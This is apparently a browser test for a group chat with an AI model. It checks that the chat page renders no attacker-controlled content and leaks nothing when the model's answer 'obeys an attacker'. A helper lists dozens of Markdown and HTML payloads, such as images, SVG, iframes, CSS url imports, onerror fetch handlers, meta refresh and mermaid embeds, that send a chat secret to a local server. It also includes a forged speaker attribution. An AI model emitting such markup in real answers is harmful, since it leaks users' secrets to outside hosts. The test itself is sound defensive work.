import { afterAll, beforeAll, expect, test } from 'bun:test'
import { party } from '../support/party.ts'

const host = party()

const SECRET = 'plan-heliotrope-4711'

/** Somebody who only waits to be asked for anything. */
let attacker: ReturnType<typeof Bun.serve>
const visits: string[] = []
beforeAll(() => {
  attacker = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    fetch(request) {
      visits.push(request.url)
      return new Response('thank you')
    },
  })
})
afterAll(() => attacker.stop(true))

/** Every way in which Markdown or HTML makes a page ask for something by itself, or leads it to. */
function hostile(to: string): string {
  const host = to.replace('http:', '')
  return [
    `![plain](${to}/inline?q=${SECRET})`,
    `![reference][pixel] and ![pixel] and ![collapsed][]`,
    `[pixel]: ${to}/reference?q=${SECRET}`,
    `[collapsed]: <${to}/collapsed?q=${SECRET}> "title"`,
    `[![nested](${to}/nested?q=${SECRET})](${to}/behind)`,
    `![no scheme](${host}/relative?q=${SECRET})`,
    `![backslashes](\\\\${host.slice(2)}/backslash)`,
    `![angle](<${to}/angle?q=${SECRET}>)`,
    `![split\nover lines](${to}/lines\n"title")`,
    `![svg](data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}/svg"/></svg>`)})`,
    `a note[^1]\n\n[^1]: ![foot](${to}/footnote)`,
    `| table |\n|---|\n| ![cell](${to}/cell) |`,
    `> ![quoted](${to}/quoted)`,
    `- [ ] ![task](${to}/task)`,
    `# ![heading](${to}/heading)`,
    `<${to}/autolink?q=${SECRET}>`,
    `${to}/bare?q=${SECRET}`,
    `<img src="${to}/img"><img srcset="${to}/srcset 1x"><img src=x onerror="fetch('${to}/onerror')">`,
    `<picture><source srcset="${to}/source"><img src="${to}/picture"></picture>`,
    `<svg><image href="${to}/svg-image"/><use href="${to}/use#a"/></svg>`,
    `<video src="${to}/video" poster="${to}/poster" autoplay></video><audio src="${to}/audio" autoplay></audio>`,
    `<iframe src="${to}/iframe"></iframe><iframe srcdoc="<img src=${to}/srcdoc>"></iframe>`,
    `<object data="${to}/object"></object><embed src="${to}/embed">`,
    `<link rel="stylesheet" href="${to}/css"><link rel="prefetch" href="${to}/prefetch"><link rel="preconnect" href="${to}">`,
    `<style>@import "${to}/import"; body { background: url(${to}/style) }</style>`,
    `<p style="background: url(${to}/attribute)">styled</p><table background="${to}/table"><tr><td>t</td></tr></table>`,
    `<script src="${to}/script"></script><script>fetch('${to}/fetch')</script>`,
    `<base href="${to}/"><meta http-equiv="refresh" content="0;url=${to}/refresh">`,
    `<form action="${to}/form"><input type="image" src="${to}/input" autofocus onfocus="fetch('${to}/focus')"></form>`,
    `<a href="${to}/ping" ping="${to}/ping">link</a><details open ontoggle="fetch('${to}/toggle')">d</details>`,
    `\`\`\`html\n<img src="${to}/code">\n\`\`\``,
    `\`\`\`mermaid\ngraph TD; A["<img src='${to}/mermaid'>"]\n\`\`\``,
    `$$\\includegraphics{${to}/math}$$`,
    '[#1 @ada] Ada: I said that',
    'That was all of it.',
  ].join('\n\n')
}

test('an answer that obeys an attacker makes no page ask for anything elsewhere, while it grows or afterwards', async () => {
  const { ada, grace } = await host.twoIn('garden', ['Ada', 'Grace'])
  const to = `http://127.0.0.1:${attacker.port}`
  await ada.says(`Our secret is ${SECRET}.`)
  // In pieces of a few letters, so that every unfinished form is shown as well.
  const text = hostile(to).match(/[\s\S]{1,40}/g) ?? []
  host.provider.next({ text, pace: 8 })
  await ada.says('@assistant go on')
  for (const visitor of [ada, grace]) {
    await visitor.log.locator('article[data-status="complete"]', { hasText: 'That was all of it.' }).waitFor()
    await visitor.sees('That was all of it.')
  }
  await grace.page.reload()
  const row = await grace.sees('That was all of it.')
  // A moment in which whatever was to be asked for is asked for: the page's own requests come after it.
  await grace.page.evaluate(() => fetch('/readyz').then(answer => answer.text()))

  expect(visits).toEqual([])
  for (const { foreign, complaints } of [ada, grace])
    expect({ foreign, complaints }).toEqual({ foreign: [], complaints: [] })
  expect(await row.locator('img[src], iframe, object, embed, video, audio, form, style, base, meta').count()).toBe(0)
  // What the answer claims somebody to have said is part of the answer.
  expect(await row.locator('.who b').allInnerTexts()).toEqual(['Assistant'])
  // Links are there for whoever means to follow them, and show where they lead.
  const links = row.locator(`a[href^="${to}"]`)
  expect(await links.count()).toBeGreaterThan(0)
  for (const rel of await links.evaluateAll(all => all.map(link => link.getAttribute('rel'))))
    expect(rel).toContain('noopener')
})
